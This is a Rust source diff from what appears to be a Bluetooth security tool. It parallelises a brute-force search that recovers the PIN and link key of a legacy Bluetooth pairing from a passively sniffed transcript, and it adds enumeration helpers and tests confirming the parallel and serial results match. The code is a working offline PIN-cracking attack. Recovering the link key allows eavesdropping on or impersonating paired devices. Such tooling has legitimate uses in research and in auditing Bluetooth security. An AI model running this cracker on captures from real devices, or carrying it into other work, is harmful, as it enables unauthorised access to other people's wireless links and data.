@@ -18,6 +18,8 @@
 use blap_crypto::e1;
 use blap_types::{BdAddr, LinkKey};
 
+use crate::runner::{parallel_search, Jobs};
+
 /// The cleartext transcript of one legacy pairing plus one authentication,
 /// as a passive sniffer records it.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -108,26 +110,94 @@ pub struct CrackResult {
     pub attempts: usize,
 }
 
+/// Candidates per work chunk in the parallel search. Each candidate costs
+/// a few SAFER+ rounds (~µs), so a chunk is large enough to amortize the
+/// scheduling atomics and small enough to keep the early exit tight.
+const PIN_CHUNK: u64 = 500;
+
+/// How many candidate PINs the numeric search space holds up to
+/// `max_digits` digits: `10 + 100 + … + 10^max_digits`.
+fn pin_space_size(max_digits: u32) -> u64 {
+    let mut total = 0u64;
+    let mut block = 10u64;
+    for _ in 0..max_digits {
+        total += block;
+        block *= 10;
+    }
+    total
+}
+
+/// The ASCII PIN at a global candidate index (1-digit PINs first, then
+/// 2-digit including leading zeros, and so on — the serial scan order).
+fn pin_for_index(mut index: u64) -> Vec<u8> {
+    let mut digits = 1usize;
+    let mut block = 10u64;
+    while index >= block {
+        index -= block;
+        block *= 10;
+        digits += 1;
+    }
+    let mut pin = vec![b'0'; digits];
+    for slot in pin.iter_mut().rev() {
+        *slot = b'0' + (index % 10) as u8;
+        index /= 10;
+    }
+    pin
+}
+
+/// Advances the ASCII candidate buffer in place — the odometer that
+/// replaces a per-candidate `format!` allocation. Rolling over the whole
+/// buffer ("99" → "000") enters the next PIN length.
+fn advance_pin(pin: &mut Vec<u8>) {
+    for slot in pin.iter_mut().rev() {
+        if *slot < b'9' {
+            *slot += 1;
+            return;
+        }
+        *slot = b'0';
+    }
+    pin.push(b'0');
+}
+
 /// Brute-forces numeric PINs of up to `max_digits` digits against a
 /// captured transcript. Returns the first PIN whose reconstruction matches
-/// the observed `SRES`.
+/// the observed `SRES`. Worker count comes from the environment
+/// ([`Jobs::from_env`]); the result is identical at any parallelism.
 pub fn crack_numeric_pin(capture: &LegacyPairingCapture, max_digits: u32) -> Option<CrackResult> {
-    let mut attempts = 0;
-    for digits in 1..=max_digits {
-        for value in 0..10u32.pow(digits) {
-            attempts += 1;
-            let pin = format!("{value:0width$}", width = digits as usize).into_bytes();
+    crack_numeric_pin_with(capture, max_digits, Jobs::from_env())
+}
+
+/// [`crack_numeric_pin`] with an explicit worker count.
+///
+/// The PIN space is partitioned into ascending fixed-size chunks; workers
+/// claim chunks atomically and stand down once a hit below their next
+/// chunk exists. The reported hit is the lowest candidate index over all
+/// workers and `attempts` is derived from that index, so the result —
+/// including the attempt count — is byte-identical to the serial scan even
+/// if several PINs collide on the same `SRES`.
+pub fn crack_numeric_pin_with(
+    capture: &LegacyPairingCapture,
+    max_digits: u32,
+    jobs: Jobs,
+) -> Option<CrackResult> {
+    parallel_search(jobs, pin_space_size(max_digits), PIN_CHUNK, |start, end| {
+        let mut pin = pin_for_index(start);
+        for index in start..end {
             if capture.pin_matches(&pin) {
                 let link_key = capture.key_for_pin(&pin);
-                return Some(CrackResult {
-                    pin,
-                    link_key,
-                    attempts,
-                });
+                return Some((
+                    index,
+                    CrackResult {
+                        pin,
+                        link_key,
+                        attempts: index as usize + 1,
+                    },
+                ));
             }
+            advance_pin(&mut pin);
         }
-    }
-    None
+        None
+    })
 }
 
 #[cfg(test)]
@@ -168,6 +238,36 @@ mod tests {
         // An alphanumeric PIN is outside the numeric search space.
         let capture = capture_with_pin(b"zz!a");
         assert_eq!(crack_numeric_pin(&capture, 3), None);
+    }
+
+    #[test]
+    fn candidate_enumeration_matches_serial_order() {
+        // The odometer must walk the exact sequence the old nested
+        // format! loops produced: "0".."9", "00".."99", "000"…
+        let mut pin = pin_for_index(0);
+        for index in 0..pin_space_size(3) {
+            assert_eq!(pin, pin_for_index(index), "index {index}");
+            advance_pin(&mut pin);
+        }
+        assert_eq!(pin_for_index(0), b"0");
+        assert_eq!(pin_for_index(9), b"9");
+        assert_eq!(pin_for_index(10), b"00");
+        assert_eq!(pin_for_index(109), b"99");
+        assert_eq!(pin_for_index(110), b"000");
+        assert_eq!(pin_space_size(4), 11_110);
+    }
+
+    #[test]
+    fn parallel_crack_matches_serial() {
+        let capture = capture_with_pin(b"4821");
+        let serial = crack_numeric_pin_with(&capture, 4, Jobs::serial());
+        for jobs in [2, 4, 8] {
+            assert_eq!(
+                crack_numeric_pin_with(&capture, 4, Jobs::new(jobs)),
+                serial,
+                "{jobs} jobs"
+            );
+        }
     }
 
     #[test]
